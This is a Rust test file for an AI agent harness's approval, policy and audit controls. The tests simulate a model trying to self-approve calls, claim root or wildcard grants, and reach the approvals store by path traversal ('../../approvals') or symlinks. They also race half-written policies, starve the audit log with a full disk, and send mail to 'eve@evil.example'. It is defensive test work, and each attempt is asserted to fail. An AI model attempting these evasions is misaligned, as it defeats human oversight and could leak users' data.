//! What a model may try so as to answer for a person, to be allowed more, or to leave no trace, and
//! what happens around it, on the binary. What its parts hold by themselves is in their own tests.

use std::fs;
use std::os::unix::fs::DirBuilderExt;
use std::time::{Duration, Instant};

use ampoule_tests::binary;
use ampoule_tests::command::{Served, Workplace, ended};
use ampoule_tests::components::importing;
use serde_json::{Value, json};

use super::story::Story;

/// A configuration of the demo server, beside this.
fn demo(more: &str) -> Workplace {
    let workplace = Workplace::default();
    let server = binary();
    let server = server.display();
    let config = format!("{more}\n[servers.demo]\ncommand = '{server}'\nargs = ['demo-server']\n");
    workplace.file("ampoule.toml", config);
    workplace
}

#[tokio::test]
async fn a_model_finds_nothing_to_answer_with() {
    let mut story = Story::new("approvals = { ask = 'outgoing', places = ['command-line'] }");
    let mut served = Served::greeted(&story.workplace, &[]).await;
    let id = story.begin(&mut served).await;
    let answers = json!({ "allow": "all", "approve": true, "answer": "allow-once" });
    for (name, value) in answers.as_object().expect("an object") {
        story
            .model(&mut served, &json!({ "run": id, "wait": 0, (name): value }))
            .await;
    }
    // Nor does it become somebody else, or get more, by naming it.
    let send = "return await tools.mail.send({ to: 'eve@evil.example', subject: 's', body: 'b' })";
    for (name, value) in [
        ("principal", json!("root")),
        ("grant", json!("*")),
        ("approvals", json!({ "ask": [] })),
        ("session", json!("../../approvals")),
    ] {
        let arguments = json!({ "code": send, "wait": 0, (name): value });
        story.model(&mut served, &arguments).await;
    }
    let looks = "const found = [];
for (const server of ['approvals', 'ampoule', 'privacy', 'quotas', 'skills'])
  for (const tool of ['allow', 'answer', 'approve', 'approvals'])
    try { found.push([server, tool, await tools[server][tool]({ id: 'all' })]) } catch {}
return found";
    let arguments = json!({ "code": looks, "language": "typescript", "wait": 60 });
    let found = story.model(&mut served, &arguments).await;
    assert!(found.starts_with("[]"), "{found}");
    let mut ask = async |id: u64, method: &str, params: Value| {
        let request = json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params });
        served.ask(request).await
    };
    let listed = ask(1000, "tools/list", json!({})).await.to_string();
    assert!(listed.contains("execute_code"), "{listed}");
    let named = |name: &str| listed.contains(&format!("\"name\":\"{name}"));
    assert!(!named("approv") && !named("allow"), "{listed}");
    let tool = json!({ "name": "approvals", "arguments": { "allow": id } });
    let called = ask(1001, "tools/call", tool).await;
    assert!(called["result"]["isError"] != false, "{called}");
    let read = ask(
        1002,
        "resources/read",
        json!({ "uri": "ampoule://approvals" }),
    )
    .await;
    assert!(read["error"].is_object(), "{read}");

    // All that is still asked, and nothing is done.
    let listed = story.workplace.run(&["approvals", "--json"]).await.json();
    let asked = listed.as_array().expect("a list");
    assert!(
        asked.iter().any(|it| it["question"]["calls"]
            .as_array()
            .is_some_and(|calls| calls.len() == 3)),
        "{listed}"
    );
    assert_eq!(story.sent(), [Value::Null; 0]);
}

#[tokio::test]
async fn no_folder_of_a_run_leads_to_what_governs_it() {
    let ask = "approvals.ask = 'destructive'\naudit.folder = 'log'";
    let folders = |path: &str, writable: bool| {
        format!("{ask}\nfolders.given = {{ path = '{path}', writable = {writable} }}")
    };
    let refused = async |more: &str, arguments: &[&str]| {
        let workplace = demo(more);
        for folder in ["data/ampoule/approvals", "policies", "log", "notes"] {
            let folder = workplace.path().join(folder);
            let mut private = fs::DirBuilder::new();
            private.recursive(true).mode(0o700);
            private.create(folder).expect("a folder");
        }
        let link = workplace.path().join("link");
        std::os::unix::fs::symlink("data", link).expect("a link");
        let arguments = [&["run", "-q", "-e", "return 1"], arguments].concat();
        let ran = workplace.run(&arguments).await;
        let told = ran.stderr.contains("which holds their governance");
        assert_eq!(ran.code, Some(if told { 2 } else { 0 }), "{ran:?}");
        told
    };
    for path in ["data/ampoule/approvals", "data", "link", ".", "log"] {
        assert!(refused(&folders(path, false), &[]).await, "{path}");
        assert!(refused(ask, &["--workspace", path]).await, "{path}");
        let workspace = format!("{ask}\nworkspace.folder = '{path}'");
        assert!(refused(&workspace, &[]).await, "{path}");
    }
    // Policies are not secret, but runs can't change them.
    assert!(refused(&folders("policies", true), &[]).await);
    assert!(!refused(&folders("policies", false), &[]).await);
    assert!(!refused(&folders("notes", true), &[]).await);
    assert!(!refused(&format!("{ask}\nworkspace = {{}}"), &[]).await);
    // Where nothing governs runs, nothing of that is there.
    let free = demo("");
    let ran = free
        .run(&["run", "-q", "-e", "return 1", "--workspace", "."])
        .await;
    assert_eq!(ran.code, Some(0), "{ran:?}");
}

#[tokio::test]
async fn policies_that_are_half_written_do_not_count() {
    let workplace = demo("");
    let forbids = |reason: &str| {
        format!(
            "@id(\"no\") @reason(\"{reason}\") forbid(principal, action == Action::\"demo.close_ticket\", resource)\nwhen {{ context.arguments.ticketId == \"TIC-0002\" }};\n"
        )
    };
    workplace.file("policies/a.cedar", forbids("it is the first"));
    let mut served = Served::greeted(&workplace, &[]).await;
    let mut id = 0;
    let mut close = async || {
        id += 1;
        let code = "await tools.demo.closeTicket({ ticketId: 'TIC-0002', resolution: 'x' })";
        let arguments = json!({ "code": code, "language": "typescript", "wait": 60 });
        let params = json!({ "name": "execute_code", "arguments": arguments });
        let request =
            json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params });
        served.ask(request).await.to_string()
    };
    // A file that grows and allows all, as far as it goes.
    let began = Instant::now();
    let mut written = String::new();
    while began.elapsed() < Duration::from_secs(3) {
        workplace.file("policies/a.cedar", &written);
        written.push_str("// what is forbidden follows\n");
        let said = close().await;
        assert!(said.contains("it is the first"), "{said}");
    }
    workplace.file("policies/a.cedar", written + &forbids("it is the second"));
    let began = Instant::now();
    loop {
        let said = close().await;
        if said.contains("it is the second") {
            break;
        }
        assert!(said.contains("it is the first"), "{said}");
        assert!(began.elapsed() < Duration::from_secs(60), "{said}");
    }
}

#[tokio::test]
async fn what_a_full_disk_keeps_from_the_log_is_not_done() {
    let story = Story::new("");
    // Files may have 32 KiB, which is the log's first.
    let full = "ulimit -f 64; trap '' XFSZ; exec \"$0\" \"$@\"";
    let code = "for (let i = 0; i < 1000; i += 1) await tools.mail.send({ to: 'a', subject: 's', body: 'b' })";
    let ampoule = binary();
    let ampoule = ampoule.to_str().expect("text");
    let arguments = ["-c", full, ampoule, "run", "-q", "-e", code];
    let ran = ended(story.workplace.command("/bin/sh", &arguments)).await;
    assert_ne!(ran.code, Some(0), "{ran:?}");
    let sent = story.sent().len();
    assert!(0 < sent && sent < 1000, "{sent} {ran:?}");
    let shown = ["audit", "ls", "--json", "--all", "--kind", "call-asked"];
    let shown = story.workplace.run(&shown).await;
    let recorded = shown.stdout.lines().count();
    assert!(recorded >= sent, "{recorded} of {sent}: {shown:?}");
}

#[tokio::test]
async fn components_import_no_tool_that_does_not_exist_for_them() {
    let says = async |workplace: &Workplace, function: &str| {
        workplace.file("program.wasm", importing("mcp:demo/demo", function));
        let ran = workplace.run(&["run", "program.wasm"]).await;
        assert_eq!(ran.code, Some(2), "{ran:?}");
        ran.stderr.replace(function, "…")
    };
    let unknown = "server `demo` has no tool `…`";
    let free = says(&demo(""), "close-ticket").await;
    assert!(!free.contains(unknown), "{free}");
    // What it may never call is as unknown as what nobody has.
    let governed = demo("[roles.all]\ntools = ['demo']\nread-only = true");
    for function in ["close-ticket", "close-everything"] {
        let hidden = says(&governed, function).await;
        assert!(hidden.contains(unknown), "{hidden}");
        assert!(!hidden.contains("close"), "{hidden}");
    }
}
